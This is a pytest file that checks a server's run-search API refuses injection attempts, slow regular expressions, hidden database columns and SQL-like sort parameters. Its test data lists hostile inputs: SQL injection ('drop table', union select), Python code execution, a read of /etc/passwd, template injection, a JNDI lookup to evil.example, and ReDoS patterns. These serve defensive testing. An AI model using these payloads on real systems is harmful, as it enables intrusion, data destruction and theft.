"""The query language at the border: TRUST.md Q01-Q05. Always 400 with a position, never slow."""

from __future__ import annotations

import time

import pytest

from tests.server.conftest import PROJECT, Served

INJECTIONS = [
    "' or 1=1 --", "lr > 0; drop table run", "lr > 0 union select birth from run", "1=1",
    "(select 1)", "lr in (select lr)", "__import__('os').system('id')", "().__class__.__bases__[0]",
    "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "#{1}", "9**9**9**9 > 1", "lr > 9**9**9",
    "lambda: 1", "[x for x in (1,2)]", "open('/etc/passwd')", "exec('1')", "lr.__class__ = 1",
    "run.__dict__ = 1", "name.format(x)", "f'{lr}' = 1", "lr > (((", "not " * 2400 + "alive",
    "(" * 4900 + "alive" + ")" * 4900, "lr > " + "%" * 500, "lr = NaN and NaN", "lr > 1e99999",
    "lr > " + "9" * 5000, "lr ~ " + "(" * 5000, 'name ~ "(a+)+$" and', "lr > 1 sort",
    "sort lr; drop", "group by", "lr > 'a\\", "lr in 1..",
]  # fmt: skip
SLOW = [
    'name ~ "(a+)+$"', 'name ~ "(a|a)*b"', 'name ~ "(.*)*x"',
    'name ~ "^(([a-z])+.)+[A-Z]([a-z])+$"',
]  # fmt: skip
HIDDEN = ["password = 1", "token = 1", "birth = 1", "run.birth = 1", "run.n = 1", "rowid = 1",
          "sqlite_master = 1", "deleted = 1", "run.end = 1", "attribute.text = 1"]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_injections_are_only_text(served: Served, text: str) -> None:
    """Q01, Q03: 36 injections: an error with its place, or a plain search."""
    started = time.monotonic()
    answer = served.client.get(f"/api/projects/{PROJECT}/runs", params={"q": text})
    assert time.monotonic() - started < 2
    assert answer.status_code in (200, 400)
    if answer.status_code == 400:
        assert answer.json()["code"] in ("query", "request")
        assert answer.json()["code"] != "query" or answer.json()["position"] >= 0
    assert served.client.get(f"/api/projects/{PROJECT}/runs").json()["total"] == 13


@pytest.mark.parametrize("text", SLOW)
def test_patterns_are_linear(served: Served, text: str) -> None:
    """Q04: patterns that explode elsewhere answer at once, or are refused."""
    started = time.monotonic()
    answer = served.client.get(f"/api/projects/{PROJECT}/runs", params={"q": text})
    assert answer.status_code in (200, 400)
    assert time.monotonic() - started < 1


@pytest.mark.parametrize("text", HIDDEN)
def test_only_known_fields_can_be_asked(served: Served, text: str) -> None:
    """Q05: columns of the database that are no fields of a run are unknown."""
    answer = served.client.get(f"/api/projects/{PROJECT}/runs", params={"q": text})
    assert answer.status_code == 400
    assert answer.json()["code"] == "query"


SORTS = ["1", "lr;", "lr desc, (select 1)", "random()", "lr asc desc", "-", "--lr", "lr, " * 2400,
         "`", "lr\x01"]  # fmt: skip


@pytest.mark.parametrize("sort", SORTS, ids=range(len(SORTS)))
def test_sorting_is_not_sql(served: Served, sort: str) -> None:
    """Q02: whatever is not a sort of known fields is 400."""
    answer = served.client.get(f"/api/projects/{PROJECT}/runs", params={"sort": sort})
    assert answer.status_code == 400
